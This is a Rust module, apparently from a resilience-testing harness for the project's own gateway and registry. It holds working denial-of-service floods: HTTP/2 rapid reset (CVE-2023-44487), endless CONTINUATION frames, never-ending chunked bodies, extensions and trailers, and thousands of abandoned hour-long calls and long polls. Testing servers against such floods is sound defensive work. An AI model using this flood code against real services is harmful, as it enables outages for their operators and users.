//! Floods by HTTP: HTTP/2 to servers that speak HTTP/1.1, bodies without an end, and callers that leave.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::attack::Attack;
use super::registry_requests::fill;
use super::target::{Target, begin, spawn_each, stay};
use crate::honest::Call;
use crate::peer::http;
use crate::peer::socket::discard;

pub(super) fn attacks() -> Vec<Attack> {
    vec![
        Attack::new(
            "http2-rapid-reset",
            "HTTP/2: streams that are reset at once, on 8 connections",
            http2_rapid_reset,
        )
        .beside(Call::Gateway),
        Attack::new(
            "http2-continuations",
            "HTTP/2: a head with CONTINUATION frames without end, on 8 connections",
            http2_continuations,
        )
        .beside(Call::Gateway),
        Attack::new("http2-at-registry", "the same two at a registry", http2_at_registry).at_registry(),
        Attack::new(
            "endless-chunked-bodies",
            "32 calls by plain HTTP whose chunks, of one byte or 64 KiB, do not end",
            endless_chunked_bodies,
        )
        .beside(Call::Gateway),
        Attack::new(
            "endless-chunk-extensions",
            "32 calls by plain HTTP whose first chunk has an extension without end, or trailers without end",
            endless_chunk_extensions,
        )
        .beside(Call::Gateway),
        Attack::new(
            "endless-bodies-at-registry",
            "32 registrations whose chunks do not end",
            endless_bodies_at_registry,
        )
        .at_registry(),
        Attack::new(
            "leaving-gateway-callers",
            "1,000 callers by plain HTTP send calls of an hour, one behind the other, and leave",
            leaving_gateway_callers,
        )
        .beside(Call::Gateway),
        Attack::new(
            "leaving-pollers",
            "2,000 clients send long polls, one behind the other, and leave, again and again",
            leaving_pollers,
        )
        .at_registry(),
    ]
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The types of frames.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
/// The flags of a head that is a whole request.
const WHOLE: u8 = 1 | 4;

/// Returns a frame of HTTP/2.
fn http2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = u32::try_from(payload.len()).expect("payloads are short").to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// CVE-2023-44487. Returns the preface and many streams, each with its reset.
fn rapid_reset() -> Vec<u8> {
    // `:method GET`, `:scheme http`, `:path /`, of the static table.
    let head = [0x82, 0x86, 0x84];
    let mut bytes = [PREFACE, &http2_frame(SETTINGS, 0, 0, b"")].concat();
    for number in 0..2_000 {
        let stream = 2 * number + 1;
        bytes.extend(http2_frame(HEADERS, WHOLE, stream, &head));
        bytes.extend(http2_frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
    }
    bytes
}

/// CVE-2024-27316 and its kind. Returns the preface, and a head that goes on.
fn continuations() -> Vec<u8> {
    let mut bytes =
        [PREFACE, &http2_frame(SETTINGS, 0, 0, b""), &http2_frame(HEADERS, 0, 1, &[0x82])].concat();
    for _ in 0..200 {
        bytes.extend(http2_frame(CONTINUATION, 0, 1, &[0; 1024]));
    }
    bytes
}

/// A server of HTTP/1.1 ends such a connection at its preface.
async fn http2_rapid_reset(target: Target) -> io::Result<()> {
    begin().await?;
    send_without_end(target.http, vec![Vec::new(), rapid_reset()]).await
}

async fn http2_continuations(target: Target) -> io::Result<()> {
    begin().await?;
    send_without_end(target.http, vec![Vec::new(), continuations()]).await
}

async fn http2_at_registry(target: Target) -> io::Result<()> {
    begin().await?;
    tokio::spawn(send_without_end(target.http, vec![Vec::new(), rapid_reset()]));
    send_without_end(target.http, vec![Vec::new(), continuations()]).await
}

/// A body has a limit, and a time; what is sent past it is not read without end.
async fn endless_chunked_bodies(target: Target) -> io::Result<()> {
    begin().await?;
    let head = chunked(target.http, "POST", "/rpc/Echo.echo");
    for chunk in [b"1\r\n \r\n".to_vec(), [b"10000\r\n", &[b' '; 0x1_0000][..], b"\r\n"].concat()] {
        tokio::spawn(send_without_end(target.http, vec![head.clone(), chunk]));
    }
    stay().await
}

/// Parts of a body that are no data count as well.
async fn endless_chunk_extensions(target: Target) -> io::Result<()> {
    begin().await?;
    let head = chunked(target.http, "POST", "/rpc/Echo.echo");
    let extension = [&head[..], b"1;a="].concat();
    let trailers = [&head[..], b"0\r\n"].concat();
    tokio::spawn(send_without_end(target.http, vec![extension, vec![b'a'; 1024]]));
    send_without_end(target.http, vec![trailers, b"X-Trailer: a\r\n".repeat(64)]).await
}

/// The same at a registry.
async fn endless_bodies_at_registry(target: Target) -> io::Result<()> {
    begin().await?;
    let head = chunked(target.http, "PUT", "/v1/services/b/instances/a");
    send_without_end(target.http, vec![head, b"1\r\n \r\n".repeat(64)]).await
}

fn chunked(address: SocketAddr, method: &str, path: &str) -> Vec<u8> {
    format!("{method} {path} HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
        .into_bytes()
}

/// On each of 8 connections: sends the first bytes once, then the second ones without end, and begins again when the server
/// ends it.
async fn send_without_end(address: SocketAddr, bytes: Vec<Vec<u8>>) -> io::Result<()> {
    spawn_each(8, |_| {
        let bytes = bytes.clone();
        async move {
            loop {
                let (reader, mut writer) = TcpStream::connect(address).await?.into_split();
                tokio::spawn(discard(reader));
                let _ = writer.write_all(&bytes[0]).await;
                while writer.write_all(&bytes[1]).await.is_ok() {}
                sleep(Duration::from_millis(1)).await;
            }
        }
    });
    stay().await
}

/// The end of a connection is seen behind requests that wait. Otherwise the calls would keep their places for an hour.
async fn leaving_gateway_callers(target: Target) -> io::Result<()> {
    let call = http::send("POST", target.http, "/rpc/Echo.sleep", br#"{"ms":3600000}"#);
    begin().await?;
    let mut callers = Vec::new();
    for _ in 0..1_000 {
        let mut caller = TcpStream::connect(target.http).await?;
        caller.write_all(&call.repeat(3)).await?;
        callers.push(caller);
    }
    // The time in which the server reads the calls; nothing tells the attacker that it has.
    sleep(Duration::from_secs(1)).await;
    Ok(())
}

/// The same for long polls, of which a registry has 10,000 places.
async fn leaving_pollers(target: Target) -> io::Result<()> {
    fill(target, "a", 10, 0).await?;
    begin().await?;
    let poll = http::get(target.http, "/v1/services/a/instances?rev=1000&wait=55s");
    loop {
        let mut pollers = Vec::new();
        for _ in 0..2_000 {
            let mut poller = TcpStream::connect(target.http).await?;
            poller.write_all(&poll.repeat(3)).await?;
            pollers.push(poller);
        }
        // The rate of the attack: 1,000 a second, of which those of the last second may still have their places.
        sleep(Duration::from_secs(2)).await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_have_a_length_of_three_bytes() {
        assert_eq!(http2_frame(RST_STREAM, 0, 3, &[0, 0, 0, 8]), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        assert_eq!(rapid_reset().len(), PREFACE.len() + 9 + 2_000 * (9 + 3 + 9 + 4));
    }
}
